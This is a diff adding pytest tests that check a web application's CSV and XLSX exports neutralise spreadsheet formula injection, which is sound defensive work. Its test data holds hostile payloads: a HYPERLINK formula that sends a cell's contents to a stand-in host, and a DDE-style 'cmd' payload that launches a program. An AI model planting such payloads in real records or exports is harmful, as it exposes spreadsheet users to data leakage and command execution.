@@ -268,3 +268,97 @@ def test_json_never_carries_raw_markup_into_a_page(app, world, db, login):
     response = login("admin").api("get", f"/api/v1/person/{pk}")
     assert response.mimetype == "application/json"
     assert json.loads(response.get_data(as_text=True))["result"]["first_name"] == PAYLOAD
+
+
+# --------------------------------------------------------------------------- formula injection
+
+FORMULAS = {  # OWASP "CSV injection": text a spreadsheet program would run
+    "p1": ('=HYPERLINK("http://example.invalid/?x="&A1,"Ava")', "+SUM(1,2)"),
+    "p2": ("@SUM(1+1)*cmd|' /C calc'!A0", "-2+3"),
+}
+
+
+def _xlsx_cells(response):
+    import openpyxl
+
+    assert response.status_code == 200, response.status_code
+    sheet = openpyxl.load_workbook(io.BytesIO(response.data)).active
+    return [list(row) for row in sheet.iter_rows()]
+
+
+def test_exports_write_formula_text_as_inert_text(app, world, db, login):
+    """A name typed as a formula is exported with a leading apostrophe, as a text cell (CSV and
+    XLSX), while the stored name stays exactly as typed and dates keep their type."""
+    import datetime as dt
+
+    with acting_as("hostile-test"):
+        for key, (first, last) in FORMULAS.items():
+            person = db.get(m.Person, world.ids[key])
+            person.first_name, person.last_name = first, last
+        db.get(m.Person, world.ids["p1"]).birth_date = dt.date(1980, 1, 8)
+        db.commit()
+    client = login("admin")
+
+    response = client.get("/personview/export/csv")
+    assert response.status_code == 200
+    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff")), delimiter=";"))
+    by_code = {row[2]: row for row in rows[1:]}
+    for key, (first, last) in FORMULAS.items():
+        row = by_code[db.get(m.Person, world.ids[key]).isikukood]
+        assert row[:2] == ["'" + first, "'" + last], row
+    assert by_code[db.get(m.Person, world.ids["p1"]).isikukood][3] == "08.01.1980"
+
+    cells = _xlsx_cells(client.get("/personview/export/xlsx"))
+    by_code = {row[2].value: row for row in cells[1:]}
+    for key, (first, last) in FORMULAS.items():
+        row = by_code[db.get(m.Person, world.ids[key]).isikukood]
+        assert [c.value for c in row[:2]] == ["'" + first, "'" + last]
+        assert [c.data_type for c in row[:2]] == ["s", "s"], "a text cell, never a formula"
+    birth = by_code[db.get(m.Person, world.ids["p1"]).isikukood][3]
+    assert birth.is_date and birth.value.date() == dt.date(1980, 1, 8)
+
+    db.expire_all()  # only the exported cell is changed, never the stored name
+    for key, (first, last) in FORMULAS.items():
+        person = db.get(m.Person, world.ids[key])
+        assert (person.first_name, person.last_name) == (first, last)
+
+
+def test_data_access_history_csv_is_inert(app, world, db, login):
+    code = db.get(m.Person, world.ids["p1"]).isikukood
+    db.add(m.DataAccess(actor="=1+1", isikukood=code, channel="api", endpoint="@SUM(A1)", entity="Person",
+                        entity_id=-1))
+    db.commit()
+    response = login("registry").get(f"/dataaccessview/person.csv?isikukood={code}")
+    assert response.status_code == 200
+    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff")), delimiter=";"))
+    assert [(r[1], r[4], r[6]) for r in rows[1:]] == [("'=1+1", "'@SUM(A1)", "-1")]
+
+
+def test_one_rule_for_every_cell_numbers_and_dates_keep_their_type(app):
+    """``inert`` changes text only: a negative number, a decimal, a date stay what they are, in
+    the CSV text (no apostrophe) and as typed XLSX cells."""
+    import datetime as dt
+    from decimal import Decimal
+
+    import openpyxl
+
+    from app.services import exports as ex
+
+    assert [ex.inert(v) for v in ("=A1", "+1", "-1", "@x", "\tx", "\rx", "", "a=b", "–5")] == \
+        ["'=A1", "'+1", "'-1", "'@x", "'\tx", "'\rx", "", "a=b", "–5"]
+    assert [ex.inert(v) for v in (-5, -2.5, Decimal("-1.5"), dt.date(2025, 1, 2), None)] == \
+        [-5, -2.5, Decimal("-1.5"), dt.date(2025, 1, 2), None]
+
+    row = [-5, Decimal("-1.5"), -2.5, dt.date(2025, 1, 2), dt.datetime(2025, 1, 2, 10, 0, tzinfo=dt.UTC),
+           "=cmd", "-text"]
+    with app.test_request_context():
+        text = "".join(ex.csv_lines(["a", "b", "c", "d", "e", "f", "g"], [row]))
+        assert next(csv.reader(io.StringIO(text.lstrip("\ufeff").splitlines()[1]), delimiter=";")) == \
+            ["-5", "-1,5", "-2,5", "02.01.2025", "02.01.2025 12:00", "'=cmd", "'-text"]
+        buf = io.BytesIO()
+        ex.write_xlsx(buf, ["a", "b", "c", "d", "e", "f", "g"], [row])
+    cells = list(openpyxl.load_workbook(io.BytesIO(buf.getvalue())).active.iter_rows())[1]
+    assert [c.value for c in cells[:3]] == [-5, -1.5, -2.5] and [c.data_type for c in cells[:3]] == ["n"] * 3
+    assert cells[3].is_date and cells[3].value == dt.datetime(2025, 1, 2)
+    assert cells[4].is_date and cells[4].value == dt.datetime(2025, 1, 2, 12, 0)
+    assert [(c.value, c.data_type) for c in cells[5:]] == [("'=cmd", "s"), ("'-text", "s")]
